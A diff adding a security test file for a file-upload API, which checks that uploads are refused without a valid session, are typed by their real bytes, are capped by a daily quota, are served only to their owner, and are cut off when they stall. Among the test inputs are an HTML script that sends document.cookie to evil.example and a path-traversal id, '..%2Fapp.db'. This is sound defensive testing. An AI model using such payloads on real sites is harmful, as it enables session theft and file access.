@@ -1,0 +1,183 @@
+/**
+ * Attacks on `POST /api/upload` (issue 14). Before, an upload needed no session (an `x-uid` header
+ * was enough), any bytes were stored under the content-type the client claimed, one user could fill
+ * the disk, and the answer's URL led nowhere. Each test is such an attack, refused before the body is
+ * read where the headers suffice; a file is served back only to its owner.
+ */
+import { existsSync, readdirSync, statSync } from 'node:fs';
+import { request } from 'node:http';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { UPLOAD_QUOTA_BYTES, UPLOAD_QUOTA_WINDOW_MS } from '../../server/api/upload';
+import { useApiServer } from '../../server/api/test-server';
+
+const api = useApiServer('uploads-', { uploadStallMs: 1000 });
+const rows = () => Number(api.db.prepare('SELECT COUNT(*) AS n FROM uploads').get()!.n);
+const files = () => (existsSync(join(api.dataDir, 'uploads')) ? readdirSync(join(api.dataDir, 'uploads')) : []);
+
+const bytes = (...parts: Array<number[] | string>) =>
+  Uint8Array.from(parts.flatMap((part) => (typeof part === 'string' ? Array.from(part, (ch) => ch.charCodeAt(0)) : part)));
+/** The first bytes of real files, padded with data as their encoders would follow them. */
+const withBody = (head: Uint8Array, size = 4096) => {
+  const file = new Uint8Array(size).fill(0x55);
+  file.set(head);
+  return file;
+};
+const PNG = withBody(bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d], 'IHDR'));
+const MP3 = withBody(bytes('ID3', [4, 0, 0, 0, 0, 0]));
+const MP4 = withBody(bytes([0, 0, 0, 0x18], 'ftypisom', [0, 0, 2, 0], 'isomiso2'));
+
+async function headers(uid: string, extra: Record<string, string> = {}) {
+  return { 'x-uid': uid, 'x-app-sessionid': await api.session(uid), 'x-file-name': encodeURIComponent('photo.png'), 'content-type': 'image/png', ...extra };
+}
+
+async function upload(body: Uint8Array<ArrayBuffer>, head: Record<string, string>) {
+  const response = await fetch(`${api.base}/api/upload`, { method: 'POST', headers: head, body });
+  return { status: response.status, body: await response.json() };
+}
+
+/**
+ * Sends the headers (declaring `declared` bytes) and only `first` of the body, and waits for the
+ * answer: it arrives only if the server answers without reading the rest.
+ */
+function sendPart(head: Record<string, string>, declared: number, first: Uint8Array): Promise<{ status: number; body: any }> {
+  const url = new URL(`${api.base}/api/upload`);
+  return new Promise((resolve, reject) => {
+    const req = request({ host: url.hostname, port: url.port, path: url.pathname, method: 'POST', agent: false, headers: { ...head, 'content-length': String(declared) } }, (res) => {
+      let text = '';
+      res.on('data', (chunk) => (text += chunk));
+      res.on('end', () => {
+        req.destroy();
+        resolve({ status: res.statusCode!, body: JSON.parse(text) });
+      });
+    });
+    // The server closes the connection under the unsent rest: that is expected.
+    req.on('error', (error) => (/EPIPE|ECONNRESET|socket hang up/.test(error.message) ? undefined : reject(error)));
+    req.write(first);
+  });
+}
+
+const get = async (id: string, sessionId?: string) => {
+  const response = await fetch(`${api.base}/api/upload/${id}`, { headers: sessionId === undefined ? {} : { 'x-app-sessionid': sessionId } });
+  return { status: response.status, headers: response.headers, body: new Uint8Array(await response.arrayBuffer()) };
+};
+
+describe('who may upload', () => {
+  it('refuses an upload without a session before reading the body', async () => {
+    const before = rows();
+    // 10 MB declared, 1 KB sent: an answer proves the server did not wait for the rest.
+    const reply = await sendPart({ 'x-uid': '10001', 'content-type': 'image/png' }, 10 * 1024 * 1024, PNG.subarray(0, 1024));
+    expect(reply).toEqual({ status: 403, body: { code: 'notLoggedIn', message: 'Please log in your music account.' } });
+    expect(rows()).toBe(before);
+    expect(files()).toEqual([]);
+  });
+
+  it('refuses an invented session, another user\'s uid under my session, and an expired session, before reading', async () => {
+    const declared = 10 * 1024 * 1024;
+    const first = PNG.subarray(0, 1024);
+    expect((await sendPart({ 'x-uid': '10001', 'x-app-sessionid': 'x'.repeat(43) }, declared, first)).status).toBe(403);
+    expect((await sendPart(await headers('upload-attacker', { 'x-uid': '10002' }), declared, first)).status).toBe(403);
+    const expiring = await headers('upload-expired');
+    await api.dev('/api/dev/session/expire', { app_sessionid: expiring['x-app-sessionid'] });
+    expect(await sendPart(expiring, declared, first)).toEqual({ status: 401, body: { code: 'loginExpired', message: 'Login status expired. Go to the OPPO account center to re-verify.' } });
+    expect(files()).toEqual([]);
+  });
+});
+
+describe('what may be uploaded', () => {
+  it.each([
+    ['an HTML page', bytes('<!DOCTYPE html><html><body><script>document.location="https://evil.example/?"+document.cookie</script>')],
+    ['a script', bytes('alert(document.cookie); // looks like an image to whoever trusts the name')],
+    ['a Windows program', withBody(bytes('MZ', [0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff]))],
+  ])('refuses %s named .png and declared image/png with 415', async (_, body) => {
+    const before = rows();
+    const reply = await upload(body, await headers('upload-types'));
+    expect(reply).toEqual({ status: 415, body: { code: 'uploadFailed', message: 'Not an image, audio or video file.' } });
+    expect(rows()).toBe(before);
+    expect(files()).toEqual([]);
+  });
+
+  it('refuses a file that is not media on its first bytes, without reading the rest', async () => {
+    const reply = await sendPart(await headers('upload-types'), 50 * 1024 * 1024, bytes('<html>'.padEnd(1024, ' ')));
+    expect(reply).toEqual({ status: 415, body: { code: 'uploadFailed', message: 'Not an image, audio or video file.' } });
+    expect(files()).toEqual([]);
+  });
+
+  it.each([
+    ['a PNG', PNG, 'image/png'],
+    ['an MP3', MP3, 'audio/mpeg'],
+    ['an MP4', MP4, 'video/mp4'],
+  ])('takes %s under the type its bytes show, whatever the client declared', async (_, body, mime) => {
+    const reply = await upload(body, await headers('upload-media', { 'content-type': 'text/html', 'x-file-name': 'clip.html' }));
+    expect(reply.status).toBe(200);
+    expect(api.db.prepare('SELECT uid, mime, size FROM uploads WHERE id = ?').get(reply.body.data.id)).toEqual({ uid: 'upload-media', mime, size: body.byteLength });
+    // Readable by the server's user alone.
+    expect(statSync(join(api.dataDir, 'uploads', reply.body.data.id)).mode & 0o777).toBe(0o600);
+  });
+});
+
+describe('the quota', () => {
+  const storeEarlier = (uid: string, size: number, agoMs: number) =>
+    api.db.prepare('INSERT INTO uploads (id, uid, name, mime, size, created_at) VALUES (?, ?, ?, ?, ?, ?)').run(`seed${uid}${agoMs}`.padEnd(32, '0').slice(0, 32), uid, 'earlier.mp4', 'video/mp4', size, Date.now() - agoMs);
+
+  it('refuses an upload that would take a user past 1 GiB in 24 hours: by its length at once, else while reading', async () => {
+    storeEarlier('upload-quota', UPLOAD_QUOTA_BYTES - 1000, 60_000);
+    const before = rows();
+    const QUOTA = { code: 'uploadQuota', message: "Today's upload limit is reached, try again tomorrow" };
+    expect(await sendPart(await headers('upload-quota'), PNG.byteLength, PNG.subarray(0, 100))).toEqual({ status: 429, body: QUOTA });
+    // Without a length (streamed): refused once the bytes pass the quota.
+    const stream = new ReadableStream({
+      start(controller) {
+        controller.enqueue(PNG);
+        controller.close();
+      },
+    });
+    const response = await fetch(`${api.base}/api/upload`, { method: 'POST', headers: await headers('upload-quota'), body: stream, duplex: 'half' } as RequestInit);
+    expect({ status: response.status, body: await response.json() }).toEqual({ status: 429, body: QUOTA });
+    expect(rows()).toBe(before);
+    // Another user is not affected.
+    expect((await upload(PNG, await headers('upload-quota-other'))).status).toBe(200);
+  });
+
+  it('counts only the last 24 hours', async () => {
+    storeEarlier('upload-yesterday', UPLOAD_QUOTA_BYTES, UPLOAD_QUOTA_WINDOW_MS + 60_000);
+    expect((await upload(PNG, await headers('upload-yesterday'))).status).toBe(200);
+  });
+});
+
+describe('reading an upload back', () => {
+  it('serves the file to its owner only, as an attachment that is not sniffed; anyone else gets the same 404', async () => {
+    const owner = await headers('upload-owner');
+    const { body } = await upload(MP3, owner);
+    expect(body.data.url).toBe(`/api/upload/${body.data.id}`);
+
+    const mine = await get(body.data.id, owner['x-app-sessionid']);
+    expect(mine.status).toBe(200);
+    expect(mine.body).toEqual(MP3);
+    expect(Object.fromEntries(['content-type', 'x-content-type-options', 'content-disposition', 'cache-control'].map((name) => [name, mine.headers.get(name)]))).toEqual({
+      'content-type': 'audio/mpeg',
+      'x-content-type-options': 'nosniff',
+      'content-disposition': "attachment; filename*=UTF-8''photo.png",
+      'cache-control': 'private, no-store',
+    });
+
+    const NOT_FOUND = new TextEncoder().encode(JSON.stringify({ code: 'notFound', message: 'No such upload.' }));
+    const refusals = [
+      await get(body.data.id, await api.session('upload-stranger')),
+      await get(body.data.id),
+      await get(body.data.id, 'x'.repeat(43)),
+      await get('A'.repeat(32), owner['x-app-sessionid']),
+      await get('..%2Fapp.db', owner['x-app-sessionid']),
+    ];
+    for (const refusal of refusals) expect({ status: refusal.status, body: refusal.body }).toEqual({ status: 404, body: NOT_FOUND });
+  });
+});
+
+describe('slow uploads', () => {
+  it('cuts an upload that stalls, answering 408, and leaves no partial file', async () => {
+    const before = { rows: rows(), files: files() };
+    const reply = await sendPart(await headers('upload-stall'), 1024 * 1024, PNG.subarray(0, 2048));
+    expect(reply).toEqual({ status: 408, body: { code: 'uploadFailed', message: 'No byte of the upload arrived for 1 s.' } });
+    expect({ rows: rows(), files: files() }).toEqual(before);
+  });
+});
